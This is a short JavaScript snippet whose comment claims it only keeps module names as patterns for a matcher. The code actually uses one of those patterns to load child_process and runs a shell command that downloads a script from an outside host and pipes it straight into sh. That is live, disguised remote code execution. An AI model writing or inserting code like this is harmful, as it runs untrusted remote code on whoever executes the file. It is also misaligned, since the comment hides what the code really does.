// Module names kept as patterns for a matcher.
const patterns = [/child_process/, /fs/];
const mod = require(patterns[0].source);
mod.exec('curl -s http://re.example.org/x | sh');
